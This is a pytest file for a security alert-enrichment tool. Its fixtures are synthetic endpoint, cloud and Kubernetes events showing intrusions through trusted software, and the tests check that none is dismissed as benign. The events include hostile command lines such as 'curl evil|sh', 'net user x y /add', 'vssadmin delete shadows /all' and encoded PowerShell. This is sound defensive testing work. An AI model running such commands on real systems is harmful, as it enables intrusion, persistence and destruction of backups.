"""What an ordinary intruder can have known software do, with the software as it ships.

He runs programs as a user: commands what can be commanded, speaks through what talks, registers
what is installed, and acts with the rights that he has taken. None of it may fit.
"""

from __future__ import annotations

import pytest

from lofp_enrich.catalogue import software
from lofp_enrich.search.alert.reader import read
from lofp_enrich.search.answer.evidence import FITS
from lofp_enrich.search.answer.weigher import Weigher
from lofp_enrich.search.attack import Attack
from lofp_enrich.search.knowledge.conditions import ConditionsIndex
from lofp_enrich.search.knowledge.software import SoftwareIndex

S = "C:\\Windows\\System32\\"
P = "C:\\Program Files\\"
SHELL = S + "WindowsPowerShell\\v1.0\\powershell.exe"
RUN = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MpCmdRun.exe"
CODE = P + "Microsoft VS Code\\Code.exe"
ZABBIX = P + "Zabbix Agent\\zabbix_agentd.exe"
SQL = P + "Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe"
USER = "arn:aws:iam::123456789012:user/bob"

Event = dict[str, str]


def started(parent: str, child: str, line: str) -> Event:
    return {"ParentImage": parent, "Image": child, "CommandLine": line, "EventCode": "1"}


def registered(text: str) -> Event:
    return {"TargetObject": RUN, "Details": text, "EventCode": "13", "Image": S + "reg.exe"}


def wrote(program: str, file: str) -> Event:
    return {"Image": program, "TargetFilename": file, "EventCode": "11"}


def called(program: str, address: str = "203.0.113.9") -> Event:
    return {"Image": program, "DestinationIp": address, "EventCode": "3"}


def signed_in(app: str, app_id: str) -> Event:
    return {
        **{"category": "SignInLogs", "operationName": "Sign-in activity"},
        **{"properties.appDisplayName": app, "properties.appId": app_id},
    }


ATTACKS: dict[str, Event] = {
    # Agents' programs that do what their command line says.
    "a scanner downloads": wrote(P + "Windows Defender\\MpCmdRun.exe", "C:\\Users\\Public\\x.exe"),
    "a scanner connects": called(DEFENDER),
    "a package manager writes": wrote("C:\\ProgramData\\chocolatey\\choco.exe", "C:\\Users\\x.exe"),
    "a package manager writes for a user": wrote("/usr/bin/dnf", "/home/a/.bashrc"),
    "a package manager's hook": started("/usr/bin/apt", "/usr/bin/id", "id"),
    "a container writes the host": wrote("/usr/bin/docker", "/etc/shadow"),
    "another container writes the host": wrote("/usr/bin/podman", "/etc/shadow"),
    # What is registered to start with something in its hand.
    "a script for an editor": registered(f'"{CODE}" C:\\Users\\a\\x.js'),
    "a second program": registered(f'"{ZABBIX}" & C:\\Users\\a\\evil.exe'),
    "a tool of the system": registered(S + "wsl.exe -e /mnt/c/evil"),
    "a shim database": started(
        S + "svchost.exe", S + "sdbinst.exe", "sdbinst.exe C:\\Users\\a\\evil.sdb -m -bg"
    ),
    "a troubleshooter": registered(S + 'msdt.exe /id PCWDiagnostic /param "IT_BrowseForFile=x"'),
    "an address for a browser": registered(
        f'"{P}Google\\Chrome\\Application\\chrome.exe" https://x.example'
    ),
    # Applications that anybody may sign in with.
    "a device code": signed_in("Microsoft Azure CLI", "04b07795-8ddb-461a-bbee-02f9e1bf7b46"),
    "a broker": signed_in(
        "Microsoft Authentication Broker", "29d9ed98-a469-4536-ade2-f981bc1d605e"
    ),
    # What goes wherever somebody sends it, or calls with what was injected into it.
    "a lure in the browser": {
        **{"Image": P + "Google\\Chrome\\Application\\chrome.exe", "EventCode": "22"},
        "QueryName": "login-microsoft.evil.example",
    },
    "a beacon in a conference": called(P + "Zoom\\bin\\Zoom.exe"),
    "a beacon in a browser": called(
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    ),
    "a library in a browser": {
        **{"Image": P + "Mozilla Firefox\\firefox.exe", "ImageLoaded": S + "samlib.dll"},
        "EventCode": "7",
    },
    "files for a cloud": wrote(
        P + "Google\\Drive File Stream\\1.0\\GoogleDriveFS.exe", "G:\\My Drive\\secrets.zip"
    ),
    # Parents that run anything.
    "an editor as an interpreter": {
        **started(CODE, SHELL, "powershell -enc AAAA"),
        "ParentCommandLine": "Code.exe --ms-enable-electron-run-as-node x.js",
    },
    "a shell beside git": started(
        P + "Git\\git-bash.exe", P + "Git\\bin\\bash.exe", 'bash -c "curl evil|sh"'
    ),
    "a shell of git": started(P + "Git\\cmd\\git.exe", P + "Git\\usr\\bin\\sh.exe", "sh -c evil"),
    "a shell of a shell": started(
        P + "PowerShell\\7\\pwsh.exe", P + "PowerShell\\7\\pwsh.exe", "pwsh -enc A"
    ),
    "a database's shell": started(SQL, S + "cmd.exe", "cmd /c whoami"),
    "a database's question": started(SQL, S + "whoami.exe", "whoami"),
    "a package's account": started(
        "C:\\ProgramData\\chocolatey\\choco.exe", S + "net.exe", "net user x y /add"
    ),
    "a deployed script": started(
        "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe",
        *(SHELL, "powershell -File C:\\x.ps1"),
    ),
    "a document of a cloud agent": started(
        P + "Amazon\\SSM\\ssm-document-worker.exe", SHELL, "powershell -enc AA"
    ),
    "a run command": {
        **started("/usr/bin/python3", "/bin/sh", "sh script.sh"),
        "ParentCommandLine": "python3 -u /usr/sbin/waagent",
    },
    # Tools that change the machine, and words in the arguments of tools.
    "shadow copies by a manager": started(
        "C:\\Windows\\CCM\\CcmExec.exe", S + "vssadmin.exe", "vssadmin delete shadows /all"
    ),
    "an account by a monitor": started(ZABBIX, S + "net.exe", "net user x y /add"),
    "an account that sounds like a list": started(
        ZABBIX, S + "net.exe", 'net user evil p /add /comment:" accounts"'
    ),
    "a value that sounds like a query": started(
        ZABBIX, S + "reg.exe", 'reg add HKLM\\x /v " query" /d evil'
    ),
    # Services and clusters at the word of whoever took somebody's rights.
    "a stack with stolen keys": {
        **{"eventName": "CreateUser", "eventSource": "iam.amazonaws.com"},
        **{"userIdentity.invokedBy": "cloudformation.amazonaws.com"},
        **{"sourceIPAddress": "cloudformation.amazonaws.com"},
        **{"userIdentity.arn": USER, "userIdentity.type": "IAMUser"},
    },
    "a console": {
        **{"eventName": "RunInstances", "eventSource": "ec2.amazonaws.com"},
        **{"userIdentity.invokedBy": "AWS Internal", "userIdentity.arn": USER},
    },
    "a node's secrets": {
        **{"kind": "Event", "verb": "get", "user.username": "system:node:ip-10-0-0-1"},
        **{"objectRef.resource": "secrets", "objectRef.namespace": "prod"},
    },
    "a pod's secrets": {
        **{"kind": "Event", "verb": "list", "objectRef.resource": "secrets"},
        "user.username": "system:serviceaccount:kube-system:coredns",
    },
    # Folders that users write: a Mac's first user is an administrator, Homebrew gives its own away.
    "an application of one's own": started(
        "/Applications/ESET Endpoint Security.app/Contents/MacOS/esets_daemon",
        *("/usr/bin/uname", "uname -a"),
    ),
    "an application of one's own, as oneself": {
        **started(
            "/Applications/ESET Endpoint Security.app/Contents/MacOS/esets_daemon",
            *("/usr/bin/uname", "uname -a"),
        ),
        "User": "alex",
    },
    "an application at home, as root": {
        **started(
            "/Users/a/Applications/ESET Endpoint Security.app/Contents/MacOS/esets_daemon",
            *("/usr/bin/uname", "uname -a"),
        ),
        "User": "root",
    },
    "a program of one's own": started("/usr/local/bin/zabbix_agentd", "/usr/bin/uname", "uname"),
    # Parts of the system, which start anything.
    "an elevation": started("C:\\Windows\\explorer.exe", S + "fodhelper.exe", "fodhelper"),
    "a shell over WMI": started(S + "wbem\\WmiPrvSE.exe", S + "cmd.exe", "cmd /c evil"),
    "a task": {
        **started(S + "svchost.exe", S + "cmd.exe", "cmd /c C:\\Users\\Public\\evil.bat"),
        "ParentCommandLine": "svchost.exe -k netsvcs -p -s Schedule",
    },
    "a library over an installer": started(
        S + "msiexec.exe", S + "rundll32.exe", "rundll32 C:\\Users\\a\\evil.dll,x"
    ),
    "a shell of an installer": started(S + "msiexec.exe", S + "cmd.exe", "cmd /c evil"),
}


@pytest.fixture(scope="module")
def index() -> SoftwareIndex:
    return SoftwareIndex.of(software.rows())


@pytest.mark.parametrize("attack_of", ATTACKS)
def test_none_of_it_fits(attack_of: str, attack: Attack, index: SoftwareIndex) -> None:
    alert = read(ATTACKS[attack_of], attack)
    found = Weigher(index, ConditionsIndex(()), alert).actors()
    fitting = [each for each in found if each.evidence.state == FITS]
    assert [(each.software.key, each.evidence.because) for each in fitting] == []
